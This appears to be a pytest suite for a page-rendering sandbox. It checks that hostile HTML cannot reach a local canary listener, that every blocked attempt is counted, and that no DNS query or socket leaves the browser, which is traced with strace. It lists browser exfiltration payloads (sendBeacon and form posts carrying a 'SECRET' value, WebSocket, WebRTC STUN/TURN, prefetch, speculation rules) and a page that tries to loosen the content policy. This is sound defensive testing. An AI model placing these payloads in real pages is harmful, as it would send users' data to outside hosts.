"""The render sandbox against a hostile page: a canary listening on 127.0.0.1 (TCP and UDP)
must receive nothing, whatever trick the page uses, and every attempt is counted."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from app.page.policy import CONTENT_SECURITY_POLICY, with_policy
from app.review.browser import find_browser
from app.review.render import Renderer
from tests.app.canary import Canary, open_in_plain_browser

# name -> (the page's body, the address the attempt is counted under); {h} is host:port.
VECTORS = {
    "sendBeacon": ("<script>navigator.sendBeacon('http://{h}/beacon?d=SECRET', 'x')</script>",
                   "http://{h}/beacon?d=SECRET"),
    "fetch keepalive": ("<script>fetch('http://{h}/keep', {{method: 'POST', body: 'SECRET', "
                        "keepalive: true}})</script>", "http://{h}/keep"),
    "a ping": ("<a id=a href='#next' ping='http://{h}/ping'>next</a>"
               "<script>document.getElementById('a').click()</script>", "http://{h}/ping"),
    "link prefetch": ("<link rel=prefetch href='http://{h}/prefetch'>", "http://{h}/prefetch"),
    "link preconnect": ("<link rel=preconnect href='http://{h}/'>", "http://{h}/"),
    "speculation rules": ('<script type="speculationrules">{{"prefetch": [{{"source": "list", '
                          '"urls": ["http://{h}/spec"]}}], "prerender": [{{"source": "list", '
                          '"urls": ["http://{h}/prerender"]}}]}}</script>', "http://{h}/spec"),
    "ws": ("<script>new WebSocket('ws://{h}/ws')</script>", "ws://{h}/ws"),
    "wss": ("<script>new WebSocket('wss://{h}/ws')</script>", "wss://{h}/ws"),
    "WebRTC STUN": ("<script>{{ const pc = new RTCPeerConnection({{iceServers: [{{urls: "
                    "'stun:{h}'}}]}}); pc.createDataChannel('d'); "
                    "pc.createOffer().then((o) => pc.setLocalDescription(o)); }}</script>",
                    "stun:{h}"),
    "WebRTC TURN": ("<script>{{ const pc = new RTCPeerConnection({{iceServers: [{{urls: "
                    "['turn:{h}?transport=tcp', 'turn:{h}?transport=udp'], username: 'u', "
                    "credential: 'c'}}]}}); pc.createDataChannel('d'); "
                    "pc.createOffer().then((o) => pc.setLocalDescription(o)); }}</script>",
                    "turn:{h}?transport=tcp"),
    "form submit": ("<form id=f action='http://{h}/form' method=post><input name=d value=SECRET>"
                    "</form><script>document.getElementById('f').submit()</script>",
                    "http://{h}/form"),
    "iframe": ("<iframe src='http://{h}/frame'></iframe>", "http://{h}/"),
    "location": ("<script>location = 'http://{h}/go'</script>", "http://{h}/go"),
    "image": ("<img src='http://{h}/pixel.png'>", "http://{h}/pixel.png"),
    "css background": ("<div style=\"background:url('http://{h}/bg.png');height:9px\"></div>",
                       "http://{h}/bg.png"),
}


@pytest.fixture
def canary() -> Iterator[Canary]:
    c = Canary()
    yield c
    c.close()


def _page(body: str) -> str:
    return f"<!DOCTYPE html><html><head><title>t</title></head><body><p>hi</p>{body}</body></html>"


@pytest.mark.parametrize("name", list(VECTORS))
def test_nothing_reaches_the_canary_and_the_attempt_is_counted(renderer: Renderer, canary: Canary,
                                                               name: str) -> None:
    body, counted = (s.format(h=f"127.0.0.1:{canary.port}") for s in VECTORS[name])
    out = renderer.render(_page(body), 320, 200)
    renderer.render(_page(""), 320, 200)  # one more round trip: late beacons have had their turn
    assert not canary.touched, (canary.connections, canary.tcp_bytes, canary.udp_datagrams,
                                canary.seen)
    assert counted in out.blocked_requests, out.blocked_requests


def test_the_canary_hears_a_browser_without_the_sandbox(canary: Canary) -> None:
    """The control: the same beacon from a plain headless Chromium does reach the canary, so the
    test above would see a leak."""
    body = VECTORS["sendBeacon"][0].format(h=f"127.0.0.1:{canary.port}")
    open_in_plain_browser(_page(body), canary, expect_contact=True)
    assert canary.touched and any(b"SECRET" in s for s in canary.seen)


_INET_SEND = re.compile(r"^\d+ +(?:send|sendto|sendmsg|sendmmsg|write|writev)\(\d+<(?:TCP|UDP)",
                        re.M)
_TCP_SOCKET = re.compile(r"socket\(AF_INET6?, SOCK_STREAM")
_RESOLVER_SOCKET = re.compile(r"connect\(\d+<UNIX[^>]*>, \{sa_family=AF_UNIX, sun_path=\"[^\"]*"
                              r"(?:resolve|nscd)")


@pytest.mark.skipif(shutil.which("strace") is None, reason="needs strace to watch the browser")
def test_no_dns_query_and_no_socket_leave_the_browser(tmp_path: Path, canary: Canary) -> None:
    """No DNS query leaves. Chromium cannot be pointed at a fake DNS server, so the browser is
    run under strace, which sees every network system call of every browser process: a DNS
    query would be a send on a UDP (or TCP) socket, or a connect to the system's resolver
    service. Host names are mapped to nothing before any lookup, so there are none; nor is any
    TCP socket opened, nor a byte sent over any internet socket at all."""
    log = tmp_path / "strace.log"
    wrapper = tmp_path / "chromium-under-strace"
    wrapper.write_text(f"#!/bin/sh\nexec strace -f -qq -yy -e trace=network,write,writev "
                       f"-e signal=none -o {log} {find_browser()} \"$@\"\n")
    wrapper.chmod(0o755)
    port = canary.port
    body = "".join([
        f"<img src='http://canary-probe.example:{port}/a.png'>",
        f"<img src='http://localhost:{port}/b.png'>",
        "<link rel=dns-prefetch href='//dns-prefetch.example'>",
        "<link rel=preconnect href='https://preconnect.example'>",
        "<link rel=prefetch href='https://prefetch.example/next'>",
        "<script>fetch('https://fetch.example/x').catch(() => {});"
        "navigator.sendBeacon('https://beacon.example/b', 'x');"
        "new WebSocket('wss://socket.example/s');",
        "{ const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.example:3478'}]});"
        " pc.createDataChannel('d'); pc.createOffer().then((o) => pc.setLocalDescription(o)); }",
        "</script><iframe src='https://frame.example/'></iframe>",
    ])
    with Renderer(browser_path=wrapper) as r:
        out = r.render(_page(body), 320, 200)
        r.render(_page("<script>location = 'https://navigate.example/'</script>"), 320, 200)
    trace = log.read_text()
    assert "socket(AF_NETLINK" in trace  # the trace did see the browser's network calls
    assert not _TCP_SOCKET.search(trace)
    assert not _INET_SEND.findall(trace), _INET_SEND.findall(trace)[:5]
    assert not _RESOLVER_SOCKET.search(trace)
    assert not canary.touched
    assert {f"http://canary-probe.example:{port}/a.png", "https://fetch.example/x",
            "wss://socket.example/s", "stun:stun.example:3478"} <= set(out.blocked_requests)


def test_the_policy_comes_first_and_keeps_standards_mode(renderer: Renderer) -> None:
    page = ("<!-- made by a model -->\n<!doctype html><html><head><title>x</title></head>"
            "<body style='margin:0'><script>document.body.style.background = "
            "document.compatMode === 'CSS1Compat' ? '#00ff00' : '#ff0000';</script></body></html>")
    placed = with_policy(page)
    assert placed.index("Content-Security-Policy") > placed.lower().index("<!doctype html>")
    assert placed.index("Content-Security-Policy") < placed.index("<html>")
    out = renderer.render(page, 100, 50)
    assert np.asarray(out.rgb)[10, 10].tolist() == [0, 255, 0]
    assert "default-src 'none'" in CONTENT_SECURITY_POLICY


def test_a_page_cannot_loosen_the_policy(renderer: Renderer, canary: Canary) -> None:
    own = ("<meta http-equiv='Content-Security-Policy' content=\"default-src *; connect-src *\">"
           f"<script>navigator.sendBeacon('http://127.0.0.1:{canary.port}/b', 'x')</script>")
    out = renderer.render(_page(own), 320, 200)
    assert f"http://127.0.0.1:{canary.port}/b" in out.blocked_requests
    assert not canary.touched
